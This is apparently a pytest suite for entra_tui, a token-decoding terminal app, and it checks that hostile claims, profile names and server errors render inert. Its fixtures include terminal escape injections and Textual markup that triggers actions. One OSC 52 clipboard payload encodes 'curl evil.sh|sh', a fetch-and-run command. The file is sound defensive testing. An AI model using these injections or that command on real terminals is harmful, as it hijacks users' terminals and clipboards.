"""Hostile text through every sink: a token, a server answer or a profile file that tries to
act on the terminal (OSC 2 title, OSC 52 clipboard, CSI, U+009B), reorder or hide text (bidi,
zero-width), print a line that looks like ours (`Signature: VERIFIED`), or run Textual
markup (`[/]` crashed the app, `[@click=...]` ran an action). Each must arrive inert."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from test_safe_text import unsafe_in
from test_token import make
from textual.pilot import OutOfBounds, Pilot
from textual.widgets import Static

from entra_tui.core.failures import from_error_response
from entra_tui.core.profiles import load_profiles
from entra_tui.core.results import AcquireResult
from entra_tui.ui.app import EntraTuiApp
from entra_tui.ui.messages import AcquisitionFinished
from entra_tui.ui.screens.paste_dialog import PasteDialog, TokenTextArea
from entra_tui.ui.screens.raw_view import RawView
from entra_tui.ui.screens.report_view import ReportView

NOW = 1_749_988_800.0
OSC_TITLE = "\x1b]2;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # "curl evil.sh|sh"
SPOOF = "\nSignature: VERIFIED: key from https://login.microsoftonline.com"
MARKUP_NAMES = ["[/]", "[@click=app.quit]quit[/]", "[@click=app.screenshot('x.svg')]s[/]",
                "[b]bold", "[link=https://evil.example]x[/link]"]
HOSTILE_VALUES = [OSC_TITLE, OSC_CLIPBOARD, "\x1b[2J\x1b[H", "\x9b31mred", "\x7fdel",
                  "admin\u202etxt.exe", "\u2066iso\u2069", "pay\u200bpal\ufeff", SPOOF,
                  "line\u2028sep\u2029para\x85nel\r", *MARKUP_NAMES]
CLAIMS: dict[str, Any] = {
    "aud": f"api://orders{OSC_CLIPBOARD}", "iss": f"https://sts.windows.net/t{OSC_TITLE}/",
    "ver": "1.0", "azp": f"client{SPOOF}", "upn": f"adele{SPOOF}",
    "scp": f"User.Read {OSC_TITLE} [/] \x9b2J", "roles": ["[/]", "\u202eadmin"],
    "wids": ["62e90394-69f5-4237-9190-012177145e10", f"x{OSC_TITLE}"],
    "exp": int(NOW) + 3600, "iat": int(NOW) - 60, "nbf": int(NOW) - 60,
    **{f"{value}name{n}": value for n, value in enumerate(HOSTILE_VALUES)},
}
HEADER = {"alg": f"RS256{OSC_TITLE}", "typ": "JWT", "kid": f"[/]{OSC_CLIPBOARD}{SPOOF}"}
TOKEN = make(CLAIMS, HEADER)
# A signature part that is not base64url is refused when decoding, so it never reaches a view.
HOSTILE_SIGNATURE_TOKEN = TOKEN.rsplit(".", 1)[0] + f".sig{OSC_TITLE}‮[/]nature"


def decode(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "entra_tui", "decode", *args], input=TOKEN,
                          capture_output=True, text=True, timeout=60)


# --- entra-tui decode -------------------------------------------------------------------------

def test_decode_text_output_is_inert_and_cannot_spoof_our_lines() -> None:
    done = decode()
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    for line in lines:
        assert not unsafe_in(line), repr(line)
    # Our own verdict line is never printed without --verify; a claim cannot make one.
    assert not [line for line in lines if line.lstrip().startswith("Signature:")]
    assert "\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07" in done.stdout  # shown, escaped
    assert "adele\\nSignature: VERIFIED" in done.stdout
    assert "[@click=app.quit]quit[/]" in done.stdout  # text, as written


def test_decode_json_output_escapes_controls_and_round_trips() -> None:
    done = decode("--json")
    assert done.returncode == 0, done.stderr
    assert done.stdout.isascii()
    assert not unsafe_in(done.stdout.replace("\n", ""))
    data = json.loads(done.stdout)
    assert data["payload"] == CLAIMS and data["header"] == HEADER  # nothing lost


# --- the TUI ----------------------------------------------------------------------------------

PLAIN_PROFILE = """
[profiles.plain]
tenant = "2d9f4b6a-8c1e-4f3a-b5d7-0e2c4a6b8d10"
client_id = "c0a1b2c3-d4e5-4f60-8a7b-9c0d1e2f3a4b"
flow = "client_secret"
secret = "env:NO_SUCH_SECRET_VARIABLE"
scopes = ["api://orders/.default"]
"""
PROFILES = """
[profiles."evil[/]\\u001b]2;pwned\\u0007\\u202e\\u007f"]
tenant = "2d9f4b6a-8c1e-4f3a-b5d7-0e2c4a6b8d10"
client_id = "c0a1b2c3-d4e5-4f60-8a7b-9c0d1e2f3a4b"
flow = "client_secret"
secret = "env:NO_SUCH_SECRET_VARIABLE"
scopes = ["api://orders/.default"]
description = "[@click=app.quit]click me[/] \\u001b]52;c;Y3VybA==\\u0007\\nSignature: VERIFIED"

[profiles."[b]bold"]
tenant = "2d9f4b6a-8c1e-4f3a-b5d7-0e2c4a6b8d10"
client_id = "c0a1b2c3-d4e5-4f60-8a7b-9c0d1e2f3a4b"
flow = "client_secret"
secret = "env:NO_SUCH_SECRET_VARIABLE"
scopes = ["api://orders/.default"]
"""


@pytest.fixture(params=[PLAIN_PROFILE], ids=["plain"])
def app(tmp_path: Path, request: pytest.FixtureRequest) -> EntraTuiApp:
    """The app on a profile file (`PLAIN_PROFILE` unless a test asks for another)."""
    path = tmp_path / "profiles.toml"
    path.write_text(request.param, encoding="utf-8")
    app = EntraTuiApp(profiles=load_profiles(path), clock=lambda: NOW, subtitle="hostile")
    app.actions_run: list[str] = []  # type: ignore[misc]
    original = app.run_action

    async def recording(action: Any, *args: Any, **kwargs: Any) -> Any:
        app.actions_run.append(str(action))  # type: ignore[attr-defined]
        return await original(action, *args, **kwargs)

    app.run_action = recording  # type: ignore[method-assign]
    return app


def screen_text(app: EntraTuiApp) -> str:
    """Every character the compositor would send to the terminal for the current screen
    (notifications included)."""
    update = app.screen._compositor.render_update(full=True)
    return "\n".join("".join(segment.text for segment in strip) for strip in update.strips)


def assert_inert(app: EntraTuiApp) -> None:
    assert app.is_running and app._exception is None
    assert not [a for a in app.actions_run if "quit" in a or "screenshot" in a]  # type: ignore[attr-defined]
    for line in screen_text(app).split("\n"):
        assert not unsafe_in(line), repr(line)
    for toast in app.query("Toast"):
        content = toast.render()
        assert "@click" not in repr(getattr(content, "spans", ""))


async def click_toasts(pilot: Pilot[Any], app: EntraTuiApp) -> None:
    """A click on a toast (on its text, where a markup link would be) must run nothing."""
    for toast in list(app.query("Toast")):
        with contextlib.suppress(OutOfBounds):  # stacked past the screen's edge
            await pilot.click(toast, offset=(2, 1))


async def paste_hostile(pilot: Pilot[Any], app: EntraTuiApp, token: str = TOKEN) -> None:
    await pilot.press("p")
    await pilot.pause()
    assert isinstance(app.screen, PasteDialog)
    app.screen.query_one(TokenTextArea).text = token
    await pilot.press("enter")
    await pilot.pause()
    assert not isinstance(app.screen, PasteDialog)


async def test_pasted_hostile_token_is_shown_inert_in_every_view(app: EntraTuiApp) -> None:
    async with app.run_test(size=(140, 50), notifications=True, tooltips=True) as pilot:
        await paste_hostile(pilot, app)
        assert app.viewing is not None and app.viewing.token.claims == CLAIMS
        await pilot.pause()
        assert_inert(app)
        shown = screen_text(app)
        assert "\\x1b]52;c;" in shown and "[/]" in shown  # visible, as text
        table = app.claims_table
        for row in range(table.row_count):
            for cell in table.get_row_at(row):
                assert not unsafe_in(cell.plain.replace("\n", "")), repr(cell.plain)
        # Every claim copied: the notification names it ("Claim [/] copied ...").
        app.claims_table.focus()
        for _ in range(table.row_count):
            await pilot.press("y", "down")
            await pilot.pause()
        assert_inert(app)
        await click_toasts(pilot, app)
        await pilot.pause()
        assert_inert(app)
        await pilot.press("r")
        await pilot.pause()
        assert isinstance(app.screen, RawView)
        assert_inert(app)
        await pilot.press("s")  # the encoded token revealed: its signature part is text too
        await pilot.pause()
        assert_inert(app)
        segments = str(app.screen.query_one("#raw-segments", Static).content)
        assert not unsafe_in(segments)
        await pilot.press("escape", "V")
        await pilot.pause()
        assert isinstance(app.screen, ReportView)
        assert_inert(app)
        await pilot.press("escape", "m")  # presentation mode masks the same text
        await pilot.pause()
        assert_inert(app)


async def test_copying_claims_named_like_markup_neither_crashes_nor_runs_actions(
        app: EntraTuiApp) -> None:
    """Only markup here (no controls): the copy notification ("Claim [/] copied ...") was
    parsed as markup, so `[/]` crashed the app and `[@click=app.quit]` made a link."""
    token = make({name: "value" for name in MARKUP_NAMES})
    async with app.run_test(size=(140, 50), notifications=True, tooltips=True) as pilot:
        await paste_hostile(pilot, app, token)
        app.claims_table.focus()
        for _ in MARKUP_NAMES:
            await pilot.press("y")
            await pilot.pause()
            assert_inert(app)
            await pilot.press("down")
        assert any("Claim [/] " in n.message for n in app._notifications)
        await click_toasts(pilot, app)
        await pilot.pause()
        assert_inert(app)


@pytest.mark.parametrize("app", [PROFILES], indirect=True, ids=["hostile"])
async def test_hostile_profile_names_in_list_palette_dialogs_and_toasts(
        app: EntraTuiApp) -> None:
    async with app.run_test(size=(140, 50), notifications=True, tooltips=True) as pilot:
        await pilot.pause()
        assert_inert(app)
        assert "evil[/]\\x1b]2;pwned\\x07\\u202e" in screen_text(app)
        await pilot.press("d")  # the delete question names the profile
        await pilot.pause()
        assert_inert(app)
        await pilot.press("n", "ctrl+p")
        await pilot.pause()
        await pilot.press(*"switch")
        await pilot.pause(0.3)
        assert_inert(app)
        await pilot.press("escape", "e")  # the editor's title names the profile
        await pilot.pause()
        assert_inert(app)
        await pilot.press("escape")
        app.notify("[/] [@click=app.quit]x[/] \x1b]2;t\x07", title="[b]\x1b[2J")
        await pilot.pause()
        assert_inert(app)


async def test_hostile_server_error_text_is_inert(app: EntraTuiApp) -> None:
    body = {"error": "invalid_client[/]", "error_codes": [7000215],
            "error_description": f"AADSTS7000215: Invalid client secret{OSC_CLIPBOARD}[/]"
                                 f"{SPOOF} [@click=app.quit]x[/] Trace ID: t Correlation ID: "
                                 f"c{OSC_TITLE}",
            "timestamp": "2025-06-15 11:59:58Z[/]", "trace_id": f"0e1d{OSC_TITLE}",
            "correlation_id": f"9f8e[/]\x9b2J", "error_uri": f"https://x[/]{OSC_TITLE}"}
    async with app.run_test(size=(140, 50), notifications=True, tooltips=True) as pilot:
        await pilot.pause()
        name = app.current.name if app.current else ""
        run = app.main.runs.of(app.current)  # type: ignore[arg-type]
        app.main.post_message(AcquisitionFinished(run, AcquireResult(
            profile_name=name, acquired_at=NOW - 2, elapsed_ms=5,
            error=from_error_response(body), account=f"adele{OSC_TITLE}",
            warnings=(f"warning [/]{OSC_TITLE}",))))
        await pilot.pause()
        await pilot.pause()
        panel = app.query_one("#error-panel")
        assert panel.display
        assert_inert(app)


async def test_a_crash_report_shows_no_token_in_its_locals(app: EntraTuiApp) -> None:
    """Textual's crash report listed every frame's local variables: the token being shown
    (and whatever secret a frame held) ended up on the terminal and in scrollback."""

    def crash(token: object) -> None:
        raw = getattr(token, "raw", "")  # a local holding the token, as real frames have
        raise RuntimeError(f"crashed with a token of {len(raw)} characters")

    printed = io.StringIO()
    app.error_console = Console(file=printed, width=120)  # where the report is printed
    with pytest.raises(RuntimeError, match="crashed with a token"):
        async with app.run_test(size=(140, 50)) as pilot:
            app.claims_table.show_token = crash  # type: ignore[method-assign]
            await paste_hostile(pilot, app, make({"aud": "api://orders", "sub": "x"}))
    report = printed.getvalue()
    assert "crashed with a token" in report
    assert "eyJ" not in report  # no part of any token


async def test_huge_numbers_and_long_claims_neither_crash_nor_freeze_the_tui(
        app: EntraTuiApp) -> None:
    """A 5,000-digit `exp` crashed the app (Python's int/str digit limit); presentation mode
    (`m`) froze it on a 4,000-character claim (a backtracking expression). No time is
    asserted: the test timeout ends a freeze."""
    header = make({}).split(".")[0]
    payload = ('{"aud":"api://orders","exp":' + "9" * 5000 + ',"iat":1e999,"nbf":-1e400,'
               '"colons":"' + ":" * 4000 + 'g","mail":"' + "a" * 100_000 + '@x"}')
    token = f"{header}.{base64.urlsafe_b64encode(payload.encode()).decode().rstrip('=')}.c2ln"
    async with app.run_test(size=(140, 50), notifications=True) as pilot:
        await paste_hostile(pilot, app, token)
        assert app.viewing is not None
        assert "9" * 40 in screen_text(app)  # the number is shown, as its digits
        await pilot.press("m")
        await pilot.pause()
        assert app.presentation
        assert_inert(app)


async def test_pasted_controls_are_shown_escaped_in_the_paste_dialog(app: EntraTuiApp) -> None:
    """The paste dialog's text area draws what it holds: a terminal paste (or `P`, the
    system clipboard) with escape sequences must not reach the terminal raw."""
    from textual import events

    async with app.run_test(size=(140, 50)) as pilot:
        await pilot.press("p")
        await pilot.pause()
        area = app.screen.query_one(TokenTextArea)
        app.post_message(events.Paste(f"{OSC_TITLE}{OSC_CLIPBOARD}\u202e\tjunk\r\n"))
        await pilot.pause()
        assert "\\x1b]2;pwned\\x07" in area.text and "\t" in area.text
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, PasteDialog)  # not a token: said so, text kept
        assert_inert(app)
        area.text = ""
        app.post_message(events.Paste(f"Authorization: Bearer {make({'aud': 'x'})}\r\n"))
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        assert not isinstance(app.screen, PasteDialog)
        assert app.viewing is not None and app.viewing.token.claims == {"aud": "x"}


@pytest.mark.parametrize("as_json", [False, True])
def test_profiles_command_prints_hostile_names_inert(tmp_path: Path, as_json: bool) -> None:
    path = tmp_path / "profiles.toml"
    path.write_text(PROFILES, encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "entra_tui", "profiles", "--config", str(path),
                           *(["--json"] if as_json else [])],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    for line in done.stdout.splitlines():
        assert not unsafe_in(line), repr(line)
    assert "evil[/]\\" in done.stdout


def test_a_hostile_signature_part_is_refused_without_echoing_it() -> None:
    done = subprocess.run([sys.executable, "-m", "entra_tui", "decode"],
                          input=HOSTILE_SIGNATURE_TOKEN, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 3
    assert "signature is not valid base64url" in done.stderr
    assert done.stderr.endswith("\n") and not unsafe_in(done.stderr[:-1])
    assert "pwned" not in done.stderr
